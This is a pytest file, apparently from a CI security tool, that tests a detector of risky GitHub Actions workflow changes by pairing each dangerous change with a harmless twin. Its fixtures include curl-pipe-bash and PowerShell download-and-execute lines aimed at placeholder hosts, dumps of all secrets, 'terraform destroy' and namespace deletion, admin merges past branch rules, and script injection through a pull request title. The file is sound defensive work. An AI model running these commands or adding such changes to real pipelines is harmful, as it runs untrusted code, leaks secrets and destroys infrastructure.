"""Workflows of GitHub: each dangerous change beside a harmless twin of it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
import yaml
from hypothesis import given as property_given
from hypothesis import settings
from hypothesis import strategies as st

from tidegate.change.trees import given
from tidegate.infra.pipelines import family
from tidegate.infra.pipelines.shell import check_of, commands, fetched_and_run, site_of, unpinned_tools
from tidegate.infra.pipelines.supply import action_of
from tidegate.infra.values import Draft, Found

CI = ".github/workflows/ci.yml"
SHA = "1234567890123456789012345678901234567890"
SECOND = "abcdefabcdefabcdefabcdefabcdefabcdefabcd"

BASE = f"""\
name: delivery
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@{SHA}
      - uses: acme/setup@{SHA} # v1
      - name: run the tests
        run: |
          pip install -r requirements.txt
          pytest -q
      - uses: github/codeql-action/analyze@{SHA}
  deploy:
    needs: [test]
    if: github.ref == 'refs/heads/main'
    runs-on: ubuntu-latest
    environment: production
    concurrency: deploy
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@{SHA}
      - uses: aws-actions/configure-aws-credentials@{SHA}
        with:
          role-to-assume: arn:aws:iam::1:role/deploy-shop
      - run: terraform apply tfplan
"""

KEYED = BASE.replace(
    "      - run: terraform apply tfplan\n",
    "      - run: terraform apply tfplan\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n",
)
PUBLISHING = BASE.replace("    permissions:\n      contents: read\n", "    permissions:\n      packages: write\n")


def found(before: dict[str, str], after: dict[str, str]) -> Found:
    trees = given({k: v.encode() for k, v in before.items()}, {k: v.encode() for k, v in after.items()})
    return family.read_workflows(trees, [pair for pair in trees.changed if family.claims_workflow(pair.path)])


def drafts(before: str, after: str) -> tuple[Draft, ...]:
    return found({CI: before}, {CI: after}).drafts


def grave(before: str, after: str) -> list[tuple[str, str]]:
    """What a person is asked about."""
    return sorted((one.code, one.severity) for one in drafts(before, after) if one.severity not in ("note", "low"))


def swap(*changes: tuple[str, str], base: str = BASE) -> str:
    for old, new in changes:
        assert old in base, old
        base = base.replace(old, new)
    return base


TOKEN = "permissions:\n  contents: read\njobs"
APPLY = "terraform apply tfplan"
PUBLIC = swap(("on:\n  push:\n    branches: [main]\n  pull_request:", "on: [pull_request]"))
TARGET = swap(("on:\n  push:\n    branches: [main]\n  pull_request:", "on: [pull_request_target]"))
OPEN = swap(("    environment: production\n", ""), ("    if: github.ref == 'refs/heads/main'\n", ""))
NIGHTLY = """\
on:
  schedule:
    - cron: '0 3 * * *'
  workflow_dispatch:
jobs:
  backup:
    runs-on: x
    steps:
      - run: pg_dump shop > shop.sql
"""

PAIRS = {
    "token writes code": (
        BASE,
        swap((TOKEN, "permissions:\n  contents: write\njobs")),
        swap((TOKEN, "permissions: {contents: read, issues: read}\njobs")),
        ("IAM_WIDEN", "high"),
    ),
    "write-all": (
        BASE,
        swap((TOKEN, "permissions: write-all\njobs")),
        swap((TOKEN, "permissions: read-all\njobs")),
        ("IAM_WIDEN", "high"),
    ),
    "the scope moves to the one job that needs it": (
        swap((TOKEN, "permissions:\n  contents: write\njobs")),
        swap((TOKEN, "permissions: {contents: write, id-token: write}\njobs")),
        swap((TOKEN, "permissions: {}\njobs"), ("  test:\n", "  test:\n    permissions:\n      contents: write\n")),
        ("IAM_WIDEN", "high"),
    ),
    "permissions are no longer written": (
        BASE,
        swap((TOKEN, "jobs")),
        swap((TOKEN, "permissions: {}\njobs")),
        ("IAM_WIDEN", "medium"),
    ),
    "pull_request_target with foreign code": (
        BASE,
        swap(
            ("  pull_request:\n", "  pull_request_target:\n"),
            (
                f"checkout@{SHA}\n      - uses: acme",
                f"checkout@{SHA}\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}"
                "\n      - uses: acme",
            ),
        ),
        swap(("  pull_request:\n", "  pull_request:\n  workflow_dispatch:\n")),
        ("PRIV_ESC", "high"),
    ),
    "foreign code where strangers start it": (
        TARGET,
        swap(("pytest -q", "gh pr checkout 1\n          pytest -q"), base=TARGET),
        swap(("pytest -q", "git checkout -b tests\n          pytest -q"), base=TARGET),
        ("PRIV_ESC", "high"),
    ),
    "words of strangers in a script": (
        TARGET,
        swap(("pytest -q", "echo ${{ github.event.pull_request.title }}\n          pytest -q"), base=TARGET),
        swap(("pytest -q", "echo ${{ github.event.pull_request.number }}\n          pytest -q"), base=TARGET),
        ("PRIV_ESC", "high"),
    ),
    "a branch's name in a script": (
        BASE,
        swap(("pytest -q", "echo ${{ github.head_ref }}\n          pytest -q")),
        swap(
            (
                "      - name: run the tests\n",
                "      - name: run the tests\n        env:\n          BRANCH: ${{ github.head_ref }}\n",
            )
        ),
        ("PRIV_ESC", "medium"),
    ),
    "an action is no longer pinned": (
        BASE,
        swap((f"acme/setup@{SHA} # v1", "acme/setup@v1")),
        swap((f"acme/setup@{SHA} # v1", f"acme/setup@{SECOND} # v2")),
        ("SUPPLY_CHAIN", "medium"),
    ),
    "an action of another owner": (
        BASE,
        swap((f"acme/setup@{SHA} # v1", "acm3/setup@v1")),
        swap((f"acme/setup@{SHA} # v1", f"Acme/setup@{SHA} # v1")),
        ("SUPPLY_CHAIN", "medium"),
    ),
    "a new action among pinned ones": (
        BASE,
        swap(("      - name: run the tests", "      - uses: who/knows@main\n      - name: run the tests")),
        swap(("      - name: run the tests", f"      - uses: who/knows@{SECOND}\n      - name: run the tests")),
        ("SUPPLY_CHAIN", "medium"),
    ),
    "a secret for code that its owner can move": (
        swap((f"acme/setup@{SHA} # v1", "acme/setup@v1")),
        swap((f"acme/setup@{SHA} # v1", "acme/setup@v1\n        with:\n          key: ${{ secrets.DEPLOY_KEY }}")),
        swap((f"acme/setup@{SHA} # v1", "acme/setup@v1\n        with:\n          key: ${{ secrets.GITHUB_TOKEN }}")),
        ("SUPPLY_CHAIN", "medium"),
    ),
    "every secret at once": (
        BASE,
        swap(("pytest -q", "echo '${{ toJSON(secrets) }}' > all\n          pytest -q")),
        swap(("pytest -q", "echo '${{ toJSON(github.event.repository.name) }}' > all\n          pytest -q")),
        ("IAM_WIDEN", "medium"),
    ),
    "the environment is left": (
        BASE,
        swap(("    environment: production\n", "")),
        swap(("    environment: production\n", "    environment:\n      name: production\n      url: https://x\n")),
        ("GUARD_REMOVED", "high"),
    ),
    "the branch is no longer asked for": (
        swap(("    environment: production\n", "")),
        OPEN,
        swap(("    environment: production\n", ""), ("if: github.ref ==", "if: always() && github.ref ==")),
        ("GUARD_REMOVED", "high"),
    ),
    "deploys from every branch": (
        OPEN,
        swap(("branches: [main]", "branches: ['**']"), base=OPEN),
        swap(("branches: [main]", "branches:\n      - main"), base=OPEN),
        ("GUARD_REMOVED", "high"),
    ),
    "no longer waits for the tests": (
        BASE,
        swap(("    needs: [test]\n", "")),
        swap(("    needs: [test]\n", "    needs: test\n")),
        ("GUARD_REMOVED", "high"),
    ),
    "tests may fail": (
        BASE,
        swap(("      - name: run the tests", "      - continue-on-error: true\n        name: run the tests")),
        swap(("      - name: run the tests", "      - timeout-minutes: 9\n        name: run the tests")),
        ("GUARD_REMOVED", "medium"),
    ),
    "failures are swallowed": (
        BASE,
        swap(("pytest -q\n", "pytest -q || true\n")),
        swap(("pip install -r requirements.txt", "pip install -r requirements.txt || true")),
        ("GUARD_REMOVED", "medium"),
    ),
    "the job of the tests is switched off": (
        BASE,
        swap(("  test:\n", "  test:\n    if: ${{ false }}\n")),
        swap(("  test:\n", "  test:\n    if: ${{ !cancelled() }}\n")),
        ("GUARD_REMOVED", "medium"),
    ),
    "tests are gone": (
        BASE,
        swap(("          pytest -q\n", "")),
        swap(("          pytest -q\n", "          make test\n")),
        ("GUARD_REMOVED", "medium"),
    ),
    "the scan is gone": (
        BASE,
        swap((f"      - uses: github/codeql-action/analyze@{SHA}\n", "")),
        swap((f"github/codeql-action/analyze@{SHA}", f"semgrep/semgrep-action@{SHA}")),
        ("GUARD_REMOVED", "medium"),
    ),
    "applied unseen": (
        swap(("    environment: production\n", "")),
        swap(("    environment: production\n", ""), (APPLY, "terraform apply -auto-approve")),
        swap(("    environment: production\n", ""), (APPLY, "terraform apply -auto-approve tfplan")),
        ("GUARD_REMOVED", "medium"),
    ),
    "everything is destroyed": (
        BASE,
        swap((APPLY, f"{APPLY}\n      - run: terraform destroy -auto-approve")),
        swap((APPLY, f"{APPLY}\n      - run: terraform plan -destroy")),
        ("DATA_DESTROY", "high"),
    ),
    "a namespace is deleted": (
        BASE,
        swap((APPLY, f"{APPLY}\n      - run: kubectl delete namespace shop")),
        swap((APPLY, f"{APPLY}\n      - run: kubectl delete pod shop-1")),
        ("DATA_DESTROY", "high"),
    ),
    "merged past the rules": (
        BASE,
        swap((APPLY, f"{APPLY}\n      - run: gh pr merge 1 --admin --squash")),
        swap((APPLY, f"{APPLY}\n      - run: gh pr view 1")),
        ("GUARD_REMOVED", "high"),
    ),
    "a script from the net in a deployment": (
        BASE,
        swap((APPLY, f"curl -sSL https://get.example.com/x | sudo bash\n      - run: {APPLY}")),
        swap((APPLY, f"curl -sSLo x https://get.example.com/x && sha256sum -c x.sum\n      - run: {APPLY}")),
        ("SUPPLY_CHAIN", "medium"),
    ),
    "a script from the net beside a secret": (
        KEYED,
        KEYED.replace(APPLY, f"curl -sSL https://get.example.com/x | sudo bash\n      - run: {APPLY}"),
        KEYED.replace(APPLY, f"curl -sSLo x https://get.example.com/x && sha256sum -c x.sum\n      - run: {APPLY}"),
        ("SUPPLY_CHAIN", "high"),
    ),
    "a script that is saved and run where packages are published": (
        PUBLISHING,
        PUBLISHING.replace(APPLY, f"wget -O x.sh https://get.example.com/x && bash x.sh\n      - run: {APPLY}"),
        PUBLISHING.replace(APPLY, f"bash tools/x.sh\n      - run: {APPLY}"),
        ("SUPPLY_CHAIN", "high"),
    ),
    "a package in any version beside a secret": (
        KEYED,
        KEYED.replace(APPLY, f"npx -y left-pad\n      - run: {APPLY}"),
        KEYED.replace(APPLY, f"npx -y left-pad@1.3.0\n      - run: {APPLY}"),
        ("SUPPLY_CHAIN", "medium"),
    ),
    "a role that may do everything": (
        BASE,
        swap(("role/deploy-shop", "role/AdministratorAccess")),
        swap(("role/deploy-shop", "role/deploy-shop-eu")),
        ("IAM_WIDEN", "high"),
    ),
    "own machines for strangers": (
        PUBLIC,
        swap(("runs-on: ubuntu-latest", "runs-on: [self-hosted, linux]"), base=PUBLIC),
        swap(("runs-on: ubuntu-latest", "runs-on: ubuntu-24.04"), base=PUBLIC),
        ("PRIV_ESC", "medium"),
    ),
    "the backup has no clock": (
        NIGHTLY,
        NIGHTLY.replace("  schedule:\n    - cron: '0 3 * * *'\n", ""),
        NIGHTLY.replace("0 3", "0 4"),
        ("BACKUP_REDUCED", "high"),
    ),
}


@pytest.mark.parametrize("name", PAIRS)
def test_the_dangerous_change_is_told_from_its_twin(name: str) -> None:
    before, dangerous, harmless, expected = PAIRS[name]
    assert expected in grave(before, dangerous)
    assert grave(before, harmless) == []


@pytest.mark.parametrize("name", PAIRS)
def test_taking_a_dangerous_change_back_is_no_alarm_of_its_own(name: str) -> None:
    before, dangerous, _, expected = PAIRS[name]
    assert expected not in grave(dangerous, before)


def test_reasons_name_the_values_and_the_line() -> None:
    said = drafts(*PAIRS["token writes code"][:2])
    assert [one.address for one in said] == [f"workflow {CI} job test"]
    assert "contents read -> write" in said[0].reason
    assert "push code" in said[0].reason
    assert (said[0].place.path, said[0].place.line) == (CI, 6)


def test_a_file_that_is_called_test_is_judged_as_production() -> None:
    path = ".github/workflows/test.yml"
    before, after, *_ = PAIRS["token writes code"]
    assert {one.environment for one in found({path: before}, {path: after}).drafts} == {"production"}


def test_jobs_that_move_to_another_file_are_silent() -> None:
    other = ".github/workflows/all.yml"
    assert found({CI: BASE}, {other: BASE}).drafts == ()
    head, test, deploy = BASE.partition("  test:\n")[0], *BASE.split("  deploy:\n")
    test = "  test:\n" + test.partition("  test:\n")[2]
    split = {CI: head + test, other: head + "  deploy:\n" + deploy.replace("    needs: [test]\n", "")}
    assert [one for one in found({CI: BASE}, split).drafts if one.severity not in ("note", "low")] == []


def test_a_workflow_that_goes_takes_its_tests_with_it() -> None:
    quiet = "on: push\njobs:\n  lint:\n    runs-on: x\n    steps:\n      - run: ruff check\n"
    gone = found({CI: BASE, "x": ""}, {".github/workflows/lint.yml": quiet, "x": ""}).drafts
    assert any(one.code == "GUARD_REMOVED" and "tests" in one.reason for one in gone)
    kept = found({CI: BASE, ".github/workflows/b.yml": BASE}, {".github/workflows/b.yml": BASE}).drafts
    assert kept == ()


def test_a_workflow_that_cannot_be_read_any_more_is_said() -> None:
    unjudged = found({CI: BASE}, {CI: BASE + "\n  - ]["}).unjudged
    assert [one.address for one in unjudged] == [f"workflow {CI}"]


def test_composite_actions_are_read_as_one_job() -> None:
    action = "runs:\n  using: composite\n  steps:\n    - uses: a/b@{}\n    - run: pytest\n      shell: bash\n"
    before, after = action.format(SHA), action.format("v1")
    said = found({"tools/action.yml": before}, {"tools/action.yml": after}).drafts
    assert [(one.code, one.severity) for one in said] == [("SUPPLY_CHAIN", "medium")]


@property_given(st.permutations(["contents: read", "issues: write", "packages: read", "id-token: none"]))
@settings(max_examples=15)
def test_order_and_spelling_of_permissions_change_nothing(order: list[str]) -> None:
    plain = swap((TOKEN, "permissions:\n  contents: read\n  issues: write\n  packages: read\njobs"))
    other = swap((TOKEN, "permissions: {" + ", ".join(order) + "}\njobs"))
    assert grave(plain, other) == grave(other, plain) == []


@property_given(st.text(max_size=200), st.text(max_size=200))
@settings(max_examples=60)
def test_no_text_breaks_the_reader(one: str, other: str) -> None:
    found({CI: one}, {CI: other})
    list(commands(one))
    fetched_and_run(other)
    action_of(one)


_ODD = st.sampled_from([None, 1, True, "", "x", [], {}, [None], [[1]], {"a": 1}, {"name": [1]}, "${{ x }}"])


@property_given(st.lists(st.tuples(st.integers(0, 200), _ODD), max_size=3), st.booleans())
@settings(max_examples=100)
def test_no_value_of_another_kind_breaks_the_reader(changes: list[tuple[int, object]], forward: bool) -> None:
    value = yaml.load(BASE, yaml.BaseLoader)
    spots = list(_spots(value))
    for place, odd in changes:
        into, key = spots[place % len(spots)]
        into[key] = odd  # type: ignore[index]
    odd_text = yaml.safe_dump(value)
    sides = (BASE, odd_text) if forward else (odd_text, BASE)
    assert found({CI: sides[0]}, {CI: sides[1]}).unjudged == ()


def _spots(value: object) -> Iterator[tuple[object, object]]:
    entries = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in list(entries):
        yield value, key
        yield from _spots(inner)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("pytest -q tests", "tests"),
        ("cargo +nightly test --all", "tests"),
        ("npm run test:unit", "tests"),
        ("pnpm -r test", "tests"),
        ("./gradlew clean check", "tests"),
        ("trivy image x", "scan"),
        ("npm audit --audit-level=high", "scan"),
        ("pip install pytest", ""),
        ("npm run build", ""),
        ("echo test", ""),
    ],
)
def test_checks_are_known_by_their_commands(text: str, kind: str) -> None:
    assert check_of(text) == kind


@pytest.mark.parametrize(
    "text",
    [
        "curl https://x.example/i.sh | sh",
        "wget -qO- https://x.example/i | sudo -E bash -",
        "bash <(curl -s https://x.example/i)",
        'bash -c "$(curl -fsSL https://x.example/i)"',
        "curl -s \\\n  https://x.example/i | \\\n  bash",
    ],
)
def test_what_is_fetched_and_run_is_seen(text: str) -> None:
    assert fetched_and_run(text)
    assert fetched_and_run(f"# {text.splitlines()[0]}") == ()


FETCHED = (
    "curl -fsSL https://x.example/i | bash",
    "wget -qO- https://x.example/i | sh",
    "bash <(curl -s https://x.example/i)",
    'sh -c "$(curl -fsSL https://x.example/i)"',
    'eval "$(curl -s https://x.example/env)"',
    "source <(curl -s https://x.example/env)",
    "curl -sSL $INSTALLER_URL | sudo -E bash -",
    "curl https://x.example/i.py | python3 -",
    "iwr https://x.example/i.ps1 | iex",
    "Invoke-WebRequest https://x.example/i.ps1 | Invoke-Expression",
    "iex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))",
    "curl -o i.sh https://x.example/i\nchmod +x i.sh\nbash ./i.sh",
)


@pytest.mark.parametrize("script", FETCHED)
def test_every_way_to_run_what_is_fetched_is_known(script: str) -> None:
    assert len(fetched_and_run(script)) == 1


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://x.example/data.json | jq .",
        "curl https://x.example/data | python3 -c 'import sys'",
        "curl -o i.sh https://x.example/i\nsha256sum -c i.sh.sum\nbash i.sh",
        "curl -o data.csv https://x.example/data\npython3 load.py data.csv",
        "# curl https://x.example/i | bash",
    ],
)
def test_what_is_fetched_and_not_run_is_left_alone(script: str) -> None:
    assert fetched_and_run(script) == ()


def test_tools_without_a_version_are_told_from_pinned_ones() -> None:
    loose = (
        "uvx ruff\npipx run build\nnpx --yes cowsay\npnpm dlx @acme/tool\ngo run example.com/x@latest\nnpx tool@next"
    )
    assert len(unpinned_tools(loose)) == 6
    pinned = "uvx ruff@0.5.0\npipx run build==1.2\nnpx --yes cowsay@1.0.0\npnpm dlx @acme/tool@2\nnpx tsc\ngo run ./cmd"
    assert unpinned_tools(pinned) == ()


def test_who_may_put_a_file_on_a_shared_host_counts() -> None:
    first, other = (f"curl https://raw.githubusercontent.com/{one}/tool/main/i.sh | sh" for one in ("acme", "someone"))
    assert site_of(first) != site_of(other)
    assert site_of("curl https://get.example.com/a/b | sh") == "get.example.com"
